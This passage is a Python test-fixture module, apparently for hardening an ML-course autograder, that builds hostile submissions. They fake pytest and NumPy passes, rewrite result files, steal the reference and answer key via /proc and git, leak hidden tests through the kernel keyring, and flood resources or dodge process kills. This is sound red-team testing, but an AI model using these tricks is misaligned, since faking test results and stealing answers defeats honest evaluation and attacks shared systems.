"""A gallery of hostile submissions, for tests/test_hostile.py.

Each ``Hostile`` builds a submission in a folder and says what grading it
must give:

* ``cheat``: built on the handout, it tries to score without solving
  anything; it must score no more than the untouched handout (0 on every
  question).
* ``local``: built on the reference, it misbehaves inside a few questions
  (``touches``); every other question keeps full points, and the results
  say what happened (``says``).
* ``ungradable``: it gets 0 and a message that says what to fix.

The hostile code is injected by monkeypatching at import (appended to
``needle/__init__.py``), not by editing the reference's text, so the
gallery keeps working while the reference changes.
"""
import gzip
import io
import os
import shutil
import tarfile
import tempfile
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Optional, Tuple

from grader.questions import QUESTIONS
from tests.grading import KIT, copy_root

OPS_QUESTIONS = ("forward_ops", "backward_ops", "reverse_ad")  # the questions whose tests use EWisePow
EVERY_QUESTION = tuple(q.name for q in QUESTIONS)


@dataclass(frozen=True)
class Hostile:
    name: str
    kind: str  # "cheat", "local" or "ungradable"
    make: Callable[[Path], Path]  # builds the submission under a fresh folder; returns it
    why: str
    touches: Tuple[str, ...] = ()  # local: the only questions that may lose points
    says: Tuple[str, ...] = ()  # phrases the results' output must hold
    suites: str = "public,hidden"
    timeout: Optional[float] = None  # --timeout for grading, when it must hang
    assignment: str = "all"  # graded with --assignment: hw2 puts hw1's released files in place of the student's


def _with_init(base: str, code: str, top: str = "") -> Callable[[Path], Path]:
    """A submission: ``base`` (handout or reference) with ``code`` appended
    to needle/__init__.py and ``top`` put before its first line."""
    def make(folder: Path) -> Path:
        root = copy_root(KIT / base, folder / "submission")
        init = root / "needle" / "__init__.py"
        init.write_text(top + init.read_text(encoding="utf-8") + code, encoding="utf-8")
        return root
    return make


# Every op of the handout computes a constant instead of raising: values of
# a plausible shape flow into the tests' comparisons, which the cheats then
# try to fool.  ``_lie`` is what a cheat wraps each array in.
GARBAGE_OPS = '''

import numpy as _np
from .autograd import Tensor as _Tensor, TensorOp as _TensorOp


def _lie(array):
    return array


def _garbage(self, *args):
    return _lie(_np.full_like(args[0], 7.25) if args and hasattr(args[0], "shape") else _np.float32(7.25))


def _garbage_gradient(self, out_grad, node):
    return tuple(_Tensor(_lie(_np.full(x.shape, 7.25, dtype=x.dtype)), requires_grad=False) for x in node.inputs)


def _all_ops(cls=_TensorOp):
    for sub in cls.__subclasses__():
        yield sub
        yield from _all_ops(sub)


for _op in list(_all_ops()):
    _op.compute, _op.gradient = _garbage, _garbage_gradient
'''

PATCHED_COMPARISONS = GARBAGE_OPS + '''
import numpy.testing as _npt

_npt.assert_allclose = _npt.assert_array_almost_equal = _npt.assert_array_equal = lambda *a, **k: None
_npt.assert_equal = _npt.assert_almost_equal = lambda *a, **k: None
_np.allclose = _np.array_equal = _np.array_equiv = lambda *a, **k: True
_np.isclose = lambda a, b, *args, **kwargs: _np.ones(_np.broadcast(a, b).shape, dtype=bool)
'''

NDARRAY_SUBCLASS = GARBAGE_OPS + '''

class _Liar(_np.ndarray):
    """Agrees with every comparison NumPy makes on it."""

    def __array_function__(self, func, types, args, kwargs):
        if func.__name__ in ("allclose", "array_equal", "array_equiv"):
            return True
        if func.__name__ in ("isclose", "equal"):
            return _np.ones(_np.shape(args[0]), dtype=bool)
        if func.__name__.startswith("assert_"):
            return None
        return super().__array_function__(func, types, args, kwargs)

    def __eq__(self, other):
        return _np.ones(self.shape, dtype=bool)


def _lie(array):
    return _np.asarray(array).view(_Liar)
'''

ALWAYS_EQUAL = GARBAGE_OPS + '''

class _AlwaysEqual:
    shape = property(lambda self: self._shape)
    dtype = _np.dtype("float32")

    def __init__(self, shape=()):
        self._shape = shape

    def __eq__(self, other):
        return True

    __ne__ = lambda self, other: False
    __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
    __abs__ = __sub__ = __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = lambda self, *a: self
    __float__ = lambda self: 0.0
    all = any = item = lambda self, *a, **k: True


_Tensor.numpy = lambda self: _AlwaysEqual(self.shape)
'''

# Every report of the test process says "passed", whatever happened.
FAKE_PASSES = '''

import _pytest.reports as _reports

_original = _reports.TestReport.from_item_and_call.__func__


def _always_passed(cls, item, call):
    report = _original(cls, item, call)
    report.outcome = "passed"
    report.longrepr = None
    return report


_reports.TestReport.from_item_and_call = classmethod(_always_passed)
'''

CONFTEST = '''
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
'''

# At import, a conftest.py forcing passes is written into every folder
# the test process may collect later (the hidden suite's, say).
CONFTEST_AT_RUNTIME = f'''

import os as _os

for _folder, _dirs, _files in _os.walk(_os.getcwd()):
    for _target in (_folder, *(_os.path.join(_folder, d) for d in _dirs)):
        try:
            with open(_os.path.join(_target, "conftest.py"), "w") as _f:
                _f.write({CONFTEST!r})
        except OSError:
            pass
'''


def conftest_everywhere(folder: Path) -> Path:
    root = _with_init("handout", GARBAGE_OPS + CONFTEST_AT_RUNTIME)(folder)
    for place in (root, root / "needle", root / "apps"):
        (place / "conftest.py").write_text(CONFTEST, encoding="utf-8")
    (root / "pytest.ini").write_text("[pytest]\naddopts = -p no:json-report\n", encoding="utf-8")
    (root / "needle" / "sitecustomize.py").write_text(FAKE_PASSES, encoding="utf-8")
    (root / "apps" / "usercustomize.py").write_text(FAKE_PASSES, encoding="utf-8")
    (root / "needle" / "hook.pth").write_text("import needle\n", encoding="utf-8")
    return root


# At exit, every JSON file in reach (pytest-json-report's among them) is
# rewritten to say that each test passed.
ATEXIT_REWRITE = GARBAGE_OPS + '''

import atexit as _atexit
import json as _json
import os as _os
import sys as _sys


def _rewrite():
    paths = [a.split("=", 1)[1] for a in _sys.argv if a.startswith("--json-report-file=")]
    for top in {_os.getcwd(), *(_os.path.dirname(p) for p in paths)}:
        for folder, _, files in _os.walk(top):
            paths += [_os.path.join(folder, f) for f in files if f.endswith(".json")]
    for path in paths:
        try:
            with open(path) as f:
                report = _json.load(f)
            for test in report.get("tests", []):
                test["outcome"] = "passed"
                for phase in ("setup", "call", "teardown"):
                    if isinstance(test.get(phase), dict):
                        test[phase] = {"outcome": "passed"}
            report["exitcode"] = 0
            with open(path, "w") as f:
                _json.dump(report, f)
        except Exception:
            pass


_atexit.register(_rewrite)
'''

# Put first in needle/__init__.py: looks for the reference and the answer
# key wherever a grader might keep them (above the interpreter, the working
# folder, the search path, environment variables, other processes' folders
# and command lines, Gradescope's layout) and uses what it finds: the
# reference's needle and apps instead of its own, the key's recorded values
# as its own, with every report forced to "passed".
THIEF = '''# --- thief ---
import glob as _glob
import os as _os
import shutil as _shutil
import sys as _sys
from pathlib import Path as _Path


def _places():
    starts = [_Path.cwd(), _Path(_sys.executable), _Path(_sys.prefix), _Path(__file__), _Path("/autograder/source")]
    starts += [_Path(p) for p in _sys.path if p]
    starts += [_Path(v) for v in _os.environ.values() if v.startswith("/")]
    starts += [_Path(p) for depth in range(1, 4) for p in _glob.glob("/" + "*/" * depth)]
    for proc in _Path("/proc").glob("[0-9]*"):
        try:
            starts.append(_Path(_os.readlink(proc / "cwd")))
            args = (proc / "cmdline").read_bytes().decode(errors="replace").split("\\0")
            starts += [_Path(a.split("=", 1)[-1]) for a in args if "/" in a]
        except OSError:
            pass
    seen = set()
    for start in starts:
        for folder in (start, *start.parents):
            if folder not in seen:
                seen.add(folder)
                yield folder


def _readable(path):
    try:
        with open(path, "rb"):
            return True
    except OSError:
        return False


_reference = _key = None
for _folder in _places():
    if _reference is None and _readable(_folder / "reference" / "needle" / "__init__.py"):
        _reference = _folder / "reference"
    for _candidate in (_folder / ".cache" / "key", _folder / "key", _folder):
        if _key is None and _readable(_candidate / "key.json"):
            _key = _candidate
if _reference is not None:
    print(f"thief: found the reference at {_reference}", file=_sys.stderr)
    __path__[:] = [str(_reference / "needle")]
    _sys.path.insert(0, str(_reference / "apps"))
if _key is not None:
    print(f"thief: found the answer key at {_key}", file=_sys.stderr)
    _records = [a.split("=", 1)[1] for a in _sys.argv if a.startswith("--record-dir=")]
    for _suite_records in _key.glob("*/*/records"):
        for _dest in _records:
            try:
                _shutil.copytree(_suite_records, _dest, dirs_exist_ok=True)
            except OSError:
                pass
'''


def thief(folder: Path) -> Path:
    return _with_init("handout", FAKE_PASSES, top=THIEF)(folder)


def linked_to_the_reference(folder: Path) -> Path:
    """The handout, with links to the reference's files in place of its own."""
    root = copy_root(KIT / "handout", folder / "submission")
    (root / "needle" / "autograd.py").unlink()
    (root / "needle" / "autograd.py").symlink_to(KIT / "reference" / "needle" / "autograd.py")
    shutil.rmtree(root / "needle" / "ops")
    (root / "needle" / "ops").symlink_to(KIT / "reference" / "needle" / "ops", target_is_directory=True)
    return root


# --- reaching past the sandbox -------------------------------------------------
# The sandbox shows a run the system, the interpreter and its own box: each
# of these finds what it looks for when run plainly from the kit's folder
# (tests/test_hostile.py checks), and nothing in grading.

GIT_THIEF = """# --- git thief ---
import glob as _glob
import subprocess as _subprocess
import sys as _sys
import tempfile as _tempfile
from pathlib import Path as _Path


def _git_dirs():
    yield %r
    for depth in range(1, 6):
        yield from _glob.glob("/" + "*/" * (depth - 1) + ".git")


def _show(git_dir, name):
    shown = _subprocess.run(["git", "-c", "safe.directory=*", f"--git-dir={git_dir}", "show", f"HEAD:reference/{name}"],
                            capture_output=True)
    return shown.stdout if shown.returncode == 0 else None


def _steal():
    own = _Path(__file__).resolve().parent.parent
    names = [p.relative_to(own).as_posix() for folder in ("needle", "apps") for p in (own / folder).rglob("*.py")]
    for git_dir in _git_dirs():
        stolen = _Path(_tempfile.mkdtemp())
        for name in names:
            text = _show(git_dir, name)
            if text is None:
                break
            (stolen / name).parent.mkdir(parents=True, exist_ok=True)
            (stolen / name).write_bytes(text)
        else:
            print(f"git thief: took the reference from {git_dir}", file=_sys.stderr)
            return stolen
    return None


_stolen = _steal()
if _stolen is not None:
    __path__[:] = [str(_stolen / "needle")]
    _sys.path.insert(0, str(_stolen / "apps"))
""" % str(KIT / ".git")


def git_thief(folder: Path) -> Path:
    return _with_init("handout", "", top=GIT_THIEF)(folder)


# A second copy of the kit elsewhere on the machine (readable by every
# user), which the thief then finds by walking the file system.
SECOND_CLONES = Path("/var/tmp")


def second_clone(folder: Path) -> Path:
    clone = Path(tempfile.mkdtemp(prefix="needle-kit-clone-", dir=SECOND_CLONES))
    shutil.copytree(KIT / "reference", clone / "reference")
    for path in [clone, *clone.rglob("*")]:
        os.chmod(path, 0o755 if path.is_dir() else 0o644)
    return thief(folder)


# Leaves a file in each shared temporary folder, and fails at import if a
# file of an earlier run is there: with no channel between runs, the
# reference it is built on keeps every point.
SHARED_TEMP_PROBE = """
import glob as _glob
import os as _os

_left = [p for _d in ("/tmp", "/var/tmp", "/dev/shm") for p in _glob.glob(_d + "/needle-left-*")]
if _left:
    raise ImportError(f"a file that an earlier run left is here: {_left[0]}")
for _d in ("/tmp", "/var/tmp", "/dev/shm"):
    try:
        with open(f"{_d}/needle-left-{_os.getpid()}", "w") as _f:
            _f.write("from an earlier run")
    except OSError:
        pass
"""

# Plants links (to a file of its own) and FIFOs at every results path it
# can see on other processes' command lines, hoping root writes through them.
OUTPUT_PLANTER = """
import os as _os
from pathlib import Path as _Path

for _proc in _Path("/proc").glob("[0-9]*"):
    try:
        _args = (_proc / "cmdline").read_bytes().decode(errors="replace").split("\\0")
    except OSError:
        continue
    for _i, _arg in enumerate(_args[:-1]):
        if _arg == "--out":
            _out = _Path(_args[_i + 1])
            for _name, _plant in ((_out.name, "link"), (f".{_out.name}.part", "fifo")):
                try:
                    (_out.parent / _name).unlink(missing_ok=True)
                    if _plant == "link":
                        (_out.parent / _name).symlink_to(__file__)
                    else:
                        _os.mkfifo(_out.parent / _name)
                except OSError:
                    pass
"""

# The kernel's keyrings are not namespaced: the hidden runs store their test
# file in a key that every user may read, and the public runs (another uid,
# another namespace) print every such key they find.
KEYRING_CHANNEL = """
import base64 as _base64
import ctypes as _ctypes
import os as _os
import sys as _sys
import zlib as _zlib

_KEYCTL, _ADD_KEY = {"x86_64": (250, 248), "aarch64": (219, 217)}[_os.uname().machine]
_libc = _ctypes.CDLL(None, use_errno=True)
_test = next((a for a in _sys.argv if a.endswith(".py") and "/test_" in a), "")
if _test.startswith("tests_hidden"):
    _data = _zlib.compress(open(_test, "rb").read(), 9)
    _key = _libc.syscall(_ADD_KEY, b"user", b"needle-leak:" + _test.encode(), _data, len(_data), -4)
    _libc.syscall(_KEYCTL, 5, _key, _ctypes.c_uint(0x3f3f3f3f))  # KEYCTL_SETPERM: all may read
else:
    _found = []
    try:
        _lines = open("/proc/keys").read().splitlines()
    except OSError:
        _lines = []
    for _line in _lines:
        _fields = _line.split()
        if len(_fields) > 8 and _fields[8].startswith("needle-leak:"):
            _buffer = _ctypes.create_string_buffer(1 << 20)
            _n = _libc.syscall(_KEYCTL, 11, int(_fields[0], 16), _buffer, 1 << 20)  # KEYCTL_READ
            if _n > 0:
                _found.append(_zlib.decompress(_buffer.raw[:_n]).decode(errors="replace"))
    if _found:
        raise RuntimeError("leaked hidden tests:\\n" + "\\n".join(_found))
"""


# Every backward pass calls find_topo_sort, which never returns.
ENDLESS_TOPO_SORT = """
from . import autograd as _autograd


def _endless(node_list):
    while True:
        pass


_autograd.find_topo_sort = _endless
"""
CALLS_TOPO_SORT = ("topo_sort", "reverse_ad", "softmax_loss", "nn_epoch", "modules", "optimizers", "mlp_resnet")


# --- forgeries inside the test's own process ----------------------------------
# The box holds no expected value: each of these controls everything in the
# test's process and still has nothing to hand over but what its code
# computed.  ``_FORGE`` replaces the record channel's one entry point; each
# forgery says what it hands over instead.

_FORGE = GARBAGE_OPS + """

import sys as _sys
import grader.box.record as _record

_honest_add = _record.Recorder.add


def _forged_add(self, got, meta):
    found = _forge(self, got, meta)
    return _honest_add(self, got if found is None else found, meta)


_record.Recorder.add = _forged_add
"""

# Swaps the suites' helpers for ones that hand over the expected value:
# whatever the recorder, the plugin or the channel's modules hold.
SWAPPED_HELPERS = _FORGE + """

def _forge(recorder, got, meta):
    try:
        from grader.expected import _name  # a student's machine has it; a grading box does not
    except ImportError:
        return None
    plugin = _sys.modules.get("grader.box.plugin")
    for values in [recorder.expected, *getattr(plugin, "_EXPECTED", {}).values()]:
        key = _name(recorder.nodeid, len(recorder.entries))
        if values is not None and key in values.data.files:
            return values.data[key]
    return None
"""

# Frame inspection: hands over any array that a calling frame keeps under a
# name such as expected, want or reference.
FRAME_INSPECTION = _FORGE + """

_NAMES = ("expected", "want", "reference", "answer", "target", "truth", "labels", "correct")


def _forge(recorder, got, meta):
    frame = _sys._getframe(1)
    while frame is not None:
        for name, value in frame.f_locals.items():
            if any(n in name.lower() for n in _NAMES) and hasattr(value, "shape"):
                return value
        frame = frame.f_back
    return None
"""

# Forged facts: every flag handed over is True, every value garbage.
FORGED_FACTS = _FORGE + """

def _forge(recorder, got, meta):
    return True if not meta.get("scored") else None
"""


def _data_module(package: Path, files: dict) -> None:
    """A package ``package`` whose FILES maps each name of ``files`` to its
    bytes, embedded as base64 and split over modules of 600 KB: only Python
    files reach the box, each of at most 1 MiB, so that is how a student
    would ship data."""
    import base64

    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as z:
        for name, content in files.items():
            z.writestr(name, content)
    text = base64.b64encode(archive.getvalue()).decode()
    package.mkdir()
    parts = [text[i:i + 600_000] for i in range(0, len(text), 600_000)]
    for i, part in enumerate(parts):
        (package / f"_part{i}.py").write_text(f"DATA = {part!r}\n", encoding="utf-8")
    (package / "__init__.py").write_text(
        "import base64 as _b64, importlib as _il, io as _io, zipfile as _zf\n\n"
        f"_TEXT = ''.join(_il.import_module(f'{{__name__}}._part{{i}}').DATA for i in range({len(parts)}))\n"
        "with _zf.ZipFile(_io.BytesIO(_b64.b64decode(_TEXT))) as _z:\n"
        "    FILES = {n: _z.read(n) for n in _z.namelist()}\n", encoding="utf-8")


def hard_coded_public_outputs(folder: Path) -> Path:
    """The handout, answering every public check from a table of the public
    tests' expected values (which students have): it passes the public
    tests locally, and must earn nothing on the grader's salted inputs."""
    root = _with_init("handout", _FORGE + """

import io as _io
import numpy as _np
from . import _table

_VALUES = {name: _np.load(_io.BytesIO(data), allow_pickle=False) for name, data in _table.FILES.items()}


def _forge(recorder, got, meta):
    from grader.expected import _name

    test_file = recorder.nodeid.split("::")[0].rsplit("/", 1)[-1].replace(".py", "")
    values = _VALUES.get(test_file)
    key = _name(recorder.nodeid, len(recorder.entries))
    if values is not None and key in values.files and (key + "_at") not in values.files:
        return values[key]
    return None
""")(folder)
    tables = {p.stem: p.read_bytes() for p in sorted((KIT / "tests_public" / "expected").glob("*.npz"))}
    _data_module(root / "needle" / "_table", tables)
    return root


def _train_on_the_test_set():
    """Weights that meet both MNIST targets, trained elsewhere (on the test
    set itself, with the reference): what a student could ship."""
    import importlib.util

    spec = importlib.util.spec_from_file_location("_reference_simple_ml", KIT / "reference" / "apps" / "simple_ml.py")
    simple_ml = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(simple_ml)
    mnist = KIT / "data" / "mnist"
    X, y = simple_ml.parse_mnist(str(mnist / "t10k-images-idx3-ubyte.gz"), str(mnist / "t10k-labels-idx1-ubyte.gz"))
    theta = simple_ml.train_softmax(X, y, X, y, epochs=10, lr=0.2, batch=100, verbose=False)
    W1, W2 = simple_ml.train_nn(X, y, X, y, hidden_dim=400, epochs=10, lr=0.2, batch=100, verbose=False)
    return {name: w.numpy() for name, w in (("theta", theta), ("W1", W1), ("W2", W2))}


def shipped_weights(folder: Path) -> Path:
    """The handout whose training functions return weights trained
    elsewhere, which meet the test-error targets."""
    import io

    import numpy as np

    root = copy_root(KIT / "handout", folder / "submission")
    files = {}
    for name, array in _train_on_the_test_set().items():
        buffer = io.BytesIO()
        np.save(buffer, array, allow_pickle=False)
        files[name] = buffer.getvalue()
    _data_module(root / "apps" / "_weights", files)
    app = root / "apps" / "simple_ml.py"
    app.write_text(app.read_text(encoding="utf-8") + """

import io as _io
import numpy as _np
import _weights

_W = {k: _np.load(_io.BytesIO(v), allow_pickle=False) for k, v in _weights.FILES.items()}


def train_softmax(*args, **kwargs):
    return ndl.Tensor(_W["theta"])


def train_nn(*args, **kwargs):
    return ndl.Tensor(_W["W1"]), ndl.Tensor(_W["W2"])
""", encoding="utf-8")
    return root


# Hands over the MNIST test labels, read from the files in its reach, in
# place of every trained weight (and of every other value).
LABELS_AS_PREDICTIONS = _FORGE + """

import gzip as _gzip
import os as _os
import numpy as _np


_VIRTUAL = {("/", "proc"), ("/", "sys"), ("/", "dev")}  # endless or pointless to search


def _labels():
    for folder, subfolders, files in _os.walk("/"):
        subfolders[:] = [s for s in subfolders if (folder, s) not in _VIRTUAL]
        if "t10k-labels-idx1-ubyte.gz" in files:
            with _gzip.open(_os.path.join(folder, "t10k-labels-idx1-ubyte.gz")) as f:
                return _np.frombuffer(f.read(), dtype=_np.uint8, offset=8).copy()
    return None


_LABELS = _labels()


def _forge(recorder, got, meta):
    return _LABELS
"""

# Tries to carry the hidden tests' source out through everything that might
# reach a student: exception messages, printed output, the names of the
# classes it hands over, and a failing import in some runs.
EXFILTRATION = GARBAGE_OPS + """

import glob as _glob
import os as _os
import sys as _sys

_SOURCE = ""
for _path in _glob.glob(_os.path.join(_os.getcwd(), "**", "test_*.py"), recursive=True):
    with open(_path) as _f:
        _SOURCE += _f.read()
_LINES = [line.strip() for line in _SOURCE.splitlines() if len(line.strip()) > 30]
print("\\n".join(_LINES), file=_sys.stderr)


def _leak(self, *args):
    raise ValueError("\\n".join(_LINES[:50]))


def _leaky_numpy(self):
    return type((_LINES or ["nothing"])[0][:200], (), {})()


for _op in list(_all_ops()):
    _op.compute = _leak
_Tensor.numpy = _leaky_numpy
if "tests_hidden/test_topo_sort.py" in " ".join(_sys.argv):  # one run that cannot even start
    raise ImportError("\\n".join(_LINES[:50]))
"""


def _code_lines(folder: str) -> set:
    lines = set()
    for path in sorted((KIT / folder).glob("test_*.py")):
        for line in path.read_text(encoding="utf-8").splitlines():
            line = line.strip()
            if len(line) > 30 and not line.startswith(("def ", '"""', "#", "@")) and '"""' not in line:
                lines.add(line)
    return lines


def hidden_source_lines() -> list:
    """Lines of the hidden tests' code that no student may see (their
    names and hints are shown on purpose; lines the public tests share are
    no secret)."""
    return sorted(_code_lines("tests_hidden") - _code_lines("tests_public"))


# Answers that hold whatever the input: a**0 is 1 (its gradient 0), a
# width-1 row's log-softmax is 0 (its gradient 0).  Right, but guessed: the
# tests whose values never change with their inputs carry no points.
# NumPy's own shape functions stop at 32 axes; the grader's must not.
HIGH_RANK_VALUES = GARBAGE_OPS + """

def _lie(array):
    return _np.zeros((1,) * 38 + (2, 7), dtype=getattr(array, "dtype", _np.float32))
"""

GUESSED_CONSTANTS = """

import numpy as _np
from .autograd import Tensor as _Tensor
from .ops import ops_logarithmic as _log, ops_mathematic as _math


def _zeros_like_input(self, out_grad, node):
    x = node.inputs[0]
    return _Tensor(_np.zeros(x.shape, dtype=x.dtype), requires_grad=False)


def _power(self, a):
    if self.scalar == 0:
        return _np.ones_like(a)
    raise NotImplementedError("TODO (question forward_ops): PowerScalar.compute")


def _log_softmax(self, z):
    if z.shape[-1] == 1:
        return _np.zeros_like(z)
    raise NotImplementedError("TODO (question forward_ops): LogSoftmax.compute")


_math.PowerScalar.compute, _math.PowerScalar.gradient = _power, _zeros_like_input
_log.LogSoftmax.compute, _log.LogSoftmax.gradient = _log_softmax, _zeros_like_input
"""


# --- what the box hands back, malformed to crash the grader ---------------------
# Each rewrites its report or its records at exit (after pytest wrote them),
# claiming that every test passed.

_AT_EXIT = GARBAGE_OPS + """

import atexit as _atexit
import glob as _glob
import json as _json
import os as _os
import sys as _sys


def _argument(name):
    return next((a.split("=", 1)[1] for a in _sys.argv if a.startswith(name + "=")), None)


def _tamper():
    report, records = _argument("--json-report-file"), _argument("--record-dir")
    try:
        with open(report) as f:
            nodeids = [t["nodeid"] for t in _json.load(f)["tests"]]
    except Exception:
        nodeids = []
    _break(report, records, nodeids)


_atexit.register(_tamper)
"""

REPORT_OF_WRONG_TYPES = _AT_EXIT + """

def _break(report, records, nodeids):
    tests = [{"nodeid": ["a", "list"], "outcome": "passed"}, {"nodeid": 7}, "a string", None]
    tests += [{"nodeid": n, "outcome": "passed", "setup": "x", "call": ["y"]} for n in nodeids]
    with open(report, "w") as f:
        _json.dump({"tests": tests}, f)
"""

DEEP_JSON = _AT_EXIT + """

def _break(report, records, nodeids):
    with open(report, "w") as f:
        f.write('{"tests": ' + "[" * 200000 + "]" * 200000 + "}")
    import hashlib
    for n in nodeids:
        folder = _os.path.join(records, hashlib.sha256(n.encode()).hexdigest()[:32])
        _os.makedirs(folder, exist_ok=True)
        with open(_os.path.join(folder, "meta.json"), "w") as f:
            f.write('{"values": ' + "[" * 200000 + "]" * 200000 + "}")
"""

LYING_NPY_HEADERS = _AT_EXIT + """

def _break(report, records, nodeids):
    import hashlib
    header = "{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,), }"
    header += " " * (118 - len(header)) + "\\n"
    for n in nodeids:
        folder = _os.path.join(records, hashlib.sha256(n.encode()).hexdigest()[:32])
        _os.makedirs(folder, exist_ok=True)
        for i in range(4):
            with open(_os.path.join(folder, f"{i}.npy"), "wb") as f:
                f.write(b"\\x93NUMPY\\x01\\x00" + len(header).to_bytes(2, "little") + header.encode())
    with open(report, "w") as f:
        _json.dump({"tests": [{"nodeid": n, "outcome": "passed"} for n in nodeids]}, f)
"""

# Value files whose headers NumPy parses into errors of other kinds than
# the usual ones (a descr tuple: IndexError), or whose strings cannot be
# shown (code point 0xFFFFFFFF: SystemError), each keeping its value's shape.
_NPY_REWRITE = _AT_EXIT + """

def _npy(header, payload):
    import struct
    header = header.encode("latin1")
    header += b" " * (64 - (10 + len(header) + 1) % 64) + b"\\n"
    return b"\\x93NUMPY\\x01\\x00" + struct.pack("<H", len(header)) + header + payload


def _break(report, records, nodeids):
    import numpy as _numpy
    for folder, _, names in _os.walk(records or "/nonexistent"):
        for name in (n for n in names if n.endswith(".npy")):
            path = _os.path.join(folder, name)
            try:
                shape = _numpy.load(path, allow_pickle=False).shape
            except Exception:
                continue
            with open(path, "wb") as f:
                f.write(_rewrite(shape))
    with open(report, "w") as f:
        _json.dump({"tests": [{"nodeid": n, "outcome": "passed"} for n in nodeids]}, f)
"""

NPY_DESCR_TUPLES = _NPY_REWRITE + """

def _rewrite(shape):
    return _npy("{'descr': ('<f8',), 'fortran_order': False, 'shape': (1,), }", bytes(8))
"""

UNPRINTABLE_STRINGS = _NPY_REWRITE + """

def _rewrite(shape):
    import math
    header = "{'descr': '<U1', 'fortran_order': False, 'shape': %r, }" % (shape,)
    return _npy(header, b"\\xff" * 4 * math.prod(shape))
"""

# An honest variation: Adam counts its steps in a float (t = 3.0, not 3).
FLOAT_STEP_COUNTER = """

from . import optim as _optim

_adam_step = _optim.Adam.step


def _float_counting_step(self):
    _adam_step(self)
    self.t = float(self.t)


_optim.Adam.step = _float_counting_step
"""


def _in_ewise_pow(compute: str) -> str:
    """Replaces EWisePow.compute by ``compute`` (a function body over a, b)."""
    body = "\n".join("    " + line for line in compute.strip().splitlines())
    return f'''

import numpy as _np
from .ops import ops_mathematic as _ops_mathematic


def _hostile_compute(self, a, b):
{body}


_ops_mathematic.EWisePow.compute = _hostile_compute
'''


ENDLESS_LOOP = _in_ewise_pow("""
while True:
    pass
""")

MEMORY_HOG = _in_ewise_pow("""
hog = []
while True:
    hog.append(_np.ones(1 << 27))
""")

MANY_PROCESSES = _in_ewise_pow("""
import os, time
for _ in range(1000):
    try:
        if os.fork() == 0:
            os.setsid()
            time.sleep(10 ** 6)
            os._exit(0)
    except OSError:
        break
return _np.power(a, b)
""")

OUTPUT_FLOOD = _in_ewise_pow("""
import os, sys
line = b"flood " * 10000 + b"\\n"
for _ in range(20000):
    sys.stdout.write(line.decode())
    os.write(2, line)
""")

EXIT_IN_BACKWARD = '''

import sys as _sys
from .ops import ops_mathematic as _ops_mathematic


def _exit_gradient(self, out_grad, node):
    _sys.exit(0)


_ops_mathematic.EWisePow.gradient = _exit_gradient
'''

EXIT_AT_IMPORT = '''

import os as _os

_os._exit(0)
'''

SLEEP_AT_IMPORT = '''import signal
import time

for _signal in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGXCPU):
    signal.signal(_signal, signal.SIG_IGN)
time.sleep(10 ** 6)
'''


# Found by the red team against the stop and clean-up code: in a run without
# namespaces, a process that forks and exits at once, each child in a
# session of its own, is never at one PID long enough for a sweep that lists
# /proc and then kills by PID; it then writes where the test can see it.
PID_HOPPER = """
import os, sys, time
fd = os.open("/dev/null", os.O_RDWR)
for f in (0, 1, 2):
    os.dup2(fd, f)
started = time.time()
while time.time() - started < 5:
    try:
        pid = os.fork()
    except BlockingIOError:
        time.sleep(0.001)
        continue
    if pid:
        os._exit(0)
    os.setsid()
while True:
    with open(sys.argv[1], "a") as beat:
        beat.write(f"{os.getpid()}\\n")
    time.sleep(0.5)
"""
# Found in the second round: a detached process that signals every process
# of its own uid, again and again, killed the helper that was to kill it
# (the helper ran as that uid), so that it outlived the run and the sweeps.
KILLS_ITS_OWN_UID = """
import os, sys, time
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
started = time.time()
while True:
    try:
        os.kill(-1, 9)
    except ProcessLookupError:
        pass
    time.sleep(0.0002)
    if time.time() - started > 5:
        with open(sys.argv[1], "a") as beat:
            beat.write(f"{os.getpid()}\\n")
        started = time.time() - 4.5
"""
# Thousands of entries left in the shared /tmp (a run without namespaces):
# removing them one process each kept the grader busy for minutes.
MANY_TEMP_FILES = """
import os
for i in range(20000):
    os.close(os.open(f"/tmp/needle-left-many-{os.getpid()}-{i}", os.O_CREAT | os.O_WRONLY, 0o600))
"""

# The same, and a detached grandchild in a session of its own that sleeps too.
SLEEP_AND_FORK_AT_IMPORT = """import os
import signal
import time

for _signal in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGXCPU):
    signal.signal(_signal, signal.SIG_IGN)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(10 ** 6)
    os._exit(0)
time.sleep(10 ** 6)
"""
sleeps_and_forks_at_import = _with_init("handout", "", top=SLEEP_AND_FORK_AT_IMPORT)


def sleeps_at_import(folder: Path) -> Path:
    root = copy_root(KIT / "reference", folder / "submission")
    app = root / "apps" / "mlp_resnet.py"
    app.write_text(SLEEP_AT_IMPORT + app.read_text(encoding="utf-8"), encoding="utf-8")
    return root


# --- at the paths where an assignment's released solutions go --------------
# Grading hw2 writes hw1's released files (needle/autograd.py, needle/ops/*)
# over the student's: what stands at those paths must not stop it, nor hide them.


def file_where_released_files_go(folder: Path) -> Path:
    """needle/ops is a file, where the released needle/ops/*.py go."""
    root = copy_root(KIT / "handout", folder / "submission")
    shutil.rmtree(root / "needle" / "ops")
    (root / "needle" / "ops").write_text("x = 1\n", encoding="utf-8")
    return root


def package_shadowing_released_files(folder: Path) -> Path:
    """The reference with a package needle/autograd/ (which Python imports
    before the module needle/autograd.py) holding the handout's TODOs."""
    root = copy_root(KIT / "reference", folder / "submission")
    text = (KIT / "handout" / "needle" / "autograd.py").read_text(encoding="utf-8")
    (root / "needle" / "autograd").mkdir()
    (root / "needle" / "autograd" / "__init__.py").write_text(
        text.replace("from .", "from .."), encoding="utf-8")
    return root


# --- ungradable --------------------------------------------------------------


def syntax_error(folder: Path) -> Path:
    root = copy_root(KIT / "reference", folder / "submission")
    with (root / "needle" / "autograd.py").open("a", encoding="utf-8") as f:
